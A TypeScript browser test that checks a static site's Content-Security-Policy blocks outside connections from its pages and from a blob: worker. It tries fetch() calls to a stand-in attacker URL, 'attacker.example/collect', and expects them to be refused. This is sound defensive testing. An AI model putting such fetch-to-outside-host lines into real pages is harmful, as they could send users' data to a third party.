// Every page of the built site states a Content-Security-Policy that keeps connections to the site itself:
// a page's script cannot reach another host, and neither can a worker it starts from a blob: URL, as the
// explore page starts DuckDB's (its SQL is also locked down; see explore.test.ts).
import type {Browser} from "playwright-core";
import {afterAll, beforeAll, describe, expect, inject, it} from "vitest";
import {launchBrowser, openPage} from "./site.js";

let browser: Browser;

beforeAll(async () => {
  browser = await launchBrowser();
});

afterAll(async () => {
  await browser?.close();
});

const PAGES = [
  "",
  "border",
  "explore",
  "sources",
  "sources/003_c140a606e429b773",
  "gallery",
  "embed/remittances-by-country"
];
const OUTSIDE = "https://attacker.example/collect";

describe("content security policy", () => {
  it.each(PAGES)("on /%s allows connections to this site only, from the page and from a blob: worker", async (path) => {
    const {page, log} = await openPage(browser, `${inject("baseUrl")}${path}`);
    const policy = await page.evaluate(
      () => document.querySelector('meta[http-equiv="Content-Security-Policy"]')?.getAttribute("content") ?? null
    );
    expect(policy).toMatch(/(^|; )connect-src 'self'(;|$)/);
    expect(log.problems).toEqual([]);
    const outcome = await page.evaluate(async (url) => {
      const violations: string[] = [];
      document.addEventListener("securitypolicyviolation", (e) =>
        violations.push(`${e.effectiveDirective} ${e.blockedURI}`)
      );
      const page = await fetch(url).then(
        () => "fetched",
        (e) => `refused: ${e.name}`
      );
      const self = await fetch(location.href).then(
        (r) => `fetched ${r.status}`,
        (e) => `refused: ${e.name}`
      );
      // A worker made from a blob: URL, as DuckDB's is, tries the same.
      const source = `fetch(${JSON.stringify(url)}).then(() => postMessage("fetched"), (e) => postMessage("refused: " + e.name));`;
      const worker = new Worker(URL.createObjectURL(new Blob([source], {type: "text/javascript"})));
      const fromWorker = await new Promise((resolve) => {
        worker.onmessage = (e) => resolve(e.data);
        worker.onerror = (e) => resolve(`worker error: ${e.message}`);
      });
      worker.terminate();
      await new Promise((resolve) => setTimeout(resolve, 100));
      return {page, self, fromWorker, violations};
    }, OUTSIDE);
    expect(outcome).toMatchObject({page: "refused: TypeError", self: "fetched 200", fromWorker: "refused: TypeError"});
    expect(outcome.violations).toContain(`connect-src ${OUTSIDE}`);
    // Refused by the browser before any request was made.
    expect(log.requests.filter((href) => href.startsWith(OUTSIDE))).toEqual([]);
    expect(log.external).toEqual([]);
  });
});
